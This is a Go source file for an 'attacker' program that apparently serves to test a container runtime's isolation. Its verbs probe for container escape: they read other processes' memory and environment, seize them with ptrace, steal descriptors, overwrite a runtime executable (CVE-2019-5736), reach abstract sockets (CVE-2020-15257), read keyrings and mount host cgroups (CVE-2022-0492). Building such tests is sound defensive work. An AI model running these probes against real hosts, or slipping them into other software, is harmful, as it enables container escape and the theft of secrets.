// Command attacker is what a hostile image brings along: one program, static, whose verbs try to get
// out of the container that it is in, or to look at what is not its own. It prints a line for each
// thing that it achieved, nothing for what was refused, and writes nothing that would harm a host that
// let it. Go would keep files of its cgroup open, and be taken for one who was given them.
//
//go:debug containermaxprocs=0
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	verbs := map[string]func(args []string){
		"fds": func([]string) { fds() }, "read": read, "write": write, "sweep": sweep, "peek": peek, "ambush": ambush, "ptrace": ptrace, "overwrite": overwrite,
		"sockets": func([]string) { sockets() }, "key": key, "cgroup": func([]string) { cgroup() }, "mount-cgroup": func([]string) { mountCgroup() },
		"shims": func([]string) { shims() },
	}
	if len(os.Args) < 2 || verbs[os.Args[1]] == nil {
		fmt.Println("attacker: no such verb")
		os.Exit(2)
	}
	verbs[os.Args[1]](os.Args[2:])
}

// fds prints the descriptors that this program was given, and what they are. Go's own files would
// bring descriptors of their poller.
func fds() {
	const dir = "/proc/self/fd"
	d, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Println(err)
		return
	}
	buf := make([]byte, 1<<16)
	n, _ := unix.ReadDirent(d, buf)
	_, _, names := unix.ParseDirent(buf[:n], -1, nil)
	for _, name := range names {
		if name == strconv.Itoa(d) {
			continue
		}
		to, _ := os.Readlink(dir + "/" + name)
		fmt.Println(name, to)
	}
}

// read prints files that are not empty.
func read(paths []string) {
	for _, p := range paths {
		if raw, err := os.ReadFile(p); err == nil && len(raw) > 0 {
			fmt.Printf("%s: %s", p, raw)
		}
	}
}

// openable reports whether a file can be opened for writing. Nothing is written.
func openable(p string) bool {
	fd, err := unix.Open(p, unix.O_WRONLY|unix.O_NONBLOCK|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err == nil {
		_ = unix.Close(fd)
	}
	return err == nil
}

// write prints which files could be written.
func write(paths []string) {
	for _, p := range paths {
		if openable(p) {
			fmt.Println(p)
		}
	}
}

// sweep prints every file below directories that could be written or, with "+" in front, is a regular
// file that can be read and is not empty. Of processes it looks at none.
func sweep(dirs []string) {
	for _, dir := range dirs {
		_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return nil //nolint:nilerr // what cannot be seen is no achievement
			}
			if d.IsDir() {
				if _, perr := strconv.Atoi(d.Name()); dir == "/proc" && filepath.Dir(p) == dir && perr == nil {
					return filepath.SkipDir
				}
				if p != dir && unix.Access(p, unix.W_OK) == nil && !strings.HasPrefix(p, "/proc/") {
					fmt.Println(p + "/")
				}
				return nil
			}
			if d.Type().IsRegular() && openable(p) {
				fmt.Println(p)
			}
			return nil
		})
	}
}

// others are the processes that can be seen, but for the first and this one.
func others() (pids []string) {
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range dirs {
		if pid := filepath.Base(d); pid != "1" && pid != strconv.Itoa(os.Getpid()) {
			pids = append(pids, pid)
		}
	}
	return pids
}

// peek looks into every other process: its descriptors, root, memory; and tries what the host's files
// that are named would say, through each of them.
func peek(files []string) {
	for _, pid := range others() {
		for _, l := range append(look(pid, files), take(pid)...) {
			fmt.Println(l)
		}
	}
}

func look(pid string, files []string) (saw []string) {
	p := "/proc/" + pid
	ways := []string{p + "/root", p + "/cwd"}
	for _, link := range []string{"exe", "root", "cwd", "ns/mnt"} {
		if _, err := os.Readlink(p + "/" + link); err == nil {
			saw = append(saw, "saw "+link)
		}
	}
	for _, f := range []string{"environ", "maps", "auxv"} {
		if raw, err := os.ReadFile(p + "/" + f); err == nil && len(raw) > 0 {
			saw = append(saw, "read "+f)
		}
	}
	if fd, err := unix.Open(p+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
		_ = unix.Close(fd)
		saw = append(saw, "opened mem")
	}
	entries, _ := os.ReadDir(p + "/fd")
	for _, e := range entries {
		if to, err := os.Readlink(p + "/fd/" + e.Name()); err == nil {
			kind, _, _ := strings.Cut(to, ":")
			saw = append(saw, "saw fd "+kind)
			ways = append(ways, p+"/fd/"+e.Name())
		}
	}
	for _, way := range ways {
		for _, f := range files {
			if raw, err := os.ReadFile(way + f); err == nil {
				saw = append(saw, "got "+strings.TrimSpace(string(raw)))
			}
		}
	}
	return saw
}

// status reads numbers of a process that anybody may know (proc_pid_status(5)).
func status(pid, name string, base int) uint64 {
	raw, _ := os.ReadFile("/proc/" + pid + "/status")
	_, rest, _ := bytes.Cut(raw, []byte("\n"+name+":\t"))
	word, _, _ := bytes.Cut(rest, []byte("\n"))
	n, _ := strconv.ParseUint(string(word), base, 64)
	return n
}

// covet reports what a process has that it can take over and that this one has not: capabilities, and
// calls that no filter stops.
func covet(pid string) (saw []string) {
	fd, err := unix.Open("/proc/"+pid+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil
	}
	_ = unix.Close(fd)
	if more := status(pid, "CapPrm", 16) &^ status("self", "CapPrm", 16); more != 0 {
		saw = append(saw, fmt.Sprintf("capabilities %x", more))
	}
	if status("self", "Seccomp", 10) == 2 && status(pid, "Seccomp", 10) != 2 {
		saw = append(saw, "no filter")
	}
	return saw
}

// ambush looks, without end, into every process that has not executed anything of this container's
// yet: who is about to has the memory of the runtime, which is far larger than busybox's. It traces none: one that
// is traced ends only for its tracer.
func ambush(how []string) {
	raw := func(pid string) bool {
		stat, err := os.ReadFile("/proc/" + pid + "/stat")
		f := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
		if err != nil || len(f) < 21 {
			return false
		}
		size, err := strconv.ParseUint(f[20], 10, 64) // vsize (proc_pid_stat(5))
		return err == nil && size > 100<<20
	}
	fmt.Println("lurking")
	met := 0
	for {
		for _, pid := range others() {
			if !raw(pid) {
				continue
			}
			if met++; met == 1 {
				fmt.Println("met one")
			}
			saw := []string(nil)
			if len(how) > 0 && how[0] == "covet" {
				saw = covet(pid)
			} else {
				saw = look(pid, nil)
			}
			if len(saw) > 0 && raw(pid) {
				fmt.Println("caught:", strings.Join(saw, ", "))
			}
		}
	}
}

// ptrace takes hold of the processes that are named.
func ptrace(pids []string) {
	for _, pid := range pids {
		for _, l := range take(pid) {
			fmt.Println(l)
		}
	}
}

// take takes hold of a process without stopping it, and lets go again.
func take(number string) (got []string) {
	pid, err := strconv.Atoi(number)
	if err != nil {
		return nil
	}
	if _, _, errno := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); errno == 0 {
		got = append(got, "traced")
	}
	if fd, err := unix.PidfdOpen(pid, 0); err == nil {
		if stolen, err := unix.PidfdGetfd(fd, 0, 0); err == nil {
			_ = unix.Close(stolen)
			got = append(got, "took a descriptor")
		}
		_ = unix.Close(fd)
	}
	maps, _ := os.ReadFile("/proc/" + number + "/maps")
	first, _, _ := bytes.Cut(maps, []byte("-"))
	addr, err := strconv.ParseUint(string(first), 16, 64)
	if err != nil {
		return got
	}
	var b [8]byte
	n, err := unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &b[0], Len: 8}}, []unix.RemoteIovec{{Base: uintptr(addr), Len: 8}}, 0)
	if err == nil && n > 0 {
		got = append(got, "read memory")
	}
	return got
}

// overwrite gets hold of the executable of a process that is about to become one of this container's,
// waits until nobody executes it, and writes to it (CVE-2019-5736).
func overwrite([]string) {
	held := -1
	for end := time.Now().Add(10 * time.Second); held < 0 && time.Now().Before(end); time.Sleep(time.Millisecond) {
		for _, pid := range others() {
			if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				held = fd
				break
			}
		}
	}
	if held < 0 {
		return
	}
	fmt.Println("holding")
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		fd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(held), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if errors.Is(err, unix.ETXTBSY) {
			continue
		}
		if err == nil {
			_, _ = unix.Write(fd, []byte("#!/overwritten"))
		}
		return
	}
}

// shims waits for a process that executes nothing of this container's and reports whether what it
// executes could be written.
func shims() {
	mine, _ := os.Stat("/proc/self/exe")
	box, _ := os.Stat("/bin/busybox")
	fmt.Println("waiting")
	for end := time.Now().Add(20 * time.Second); time.Now().Before(end); time.Sleep(time.Millisecond) {
		for _, pid := range others() {
			exe := "/proc/" + pid + "/exe"
			if st, err := os.Stat(exe); err != nil || os.SameFile(st, mine) || os.SameFile(st, box) {
				continue
			}
			fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			fmt.Println("found, write:", unix.Access("/proc/self/fd/"+strconv.Itoa(fd), unix.W_OK))
			return
		}
	}
	fmt.Println("nobody came")
}

// sockets prints every unix socket of this network namespace that this program can speak to by its
// abstract name (CVE-2020-15257).
func sockets() {
	raw, err := os.ReadFile("/proc/net/unix")
	if err != nil {
		fmt.Println(err)
		return
	}
	for l := range strings.Lines(string(raw)) {
		f := strings.Fields(l)
		if len(f) < 8 || f[7][0] != '@' {
			continue
		}
		for _, network := range []string{"unix", "unixpacket"} {
			if c, err := net.Dial(network, f[7]); err == nil {
				_ = c.Close()
				fmt.Println("reached", f[7])
			}
		}
	}
}

// key looks for keys in the session keyring that this program was given.
func key(names []string) {
	for _, name := range names {
		if id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", name, 0); err == nil {
			buf := make([]byte, 64)
			n, _ := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
			fmt.Printf("key: %s\n", buf[:max(n, 0)])
		}
	}
}

// cgroup makes itself root of a user namespace and mounts the host's cgroups there (CVE-2022-0492).
func cgroup() {
	cmd := exec.Command("/proc/self/exe", "mount-cgroup")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}},
	}
	_ = cmd.Run()
}

func mountCgroup() {
	fmt.Println("a user namespace of its own")
	for _, m := range [][2]string{{"cgroup", "memory"}, {"cgroup", "pids"}, {"cgroup2", ""}} {
		if err := unix.Mount(m[0], "/tmp", m[0], 0, m[1]); err != nil {
			continue
		}
		fmt.Println("mounted", m[0], m[1])
		if openable("/tmp/release_agent") || openable("/tmp/cgroup.procs") {
			fmt.Println("can write there")
		}
		_ = unix.Unmount("/tmp", unix.MNT_DETACH)
	}
}
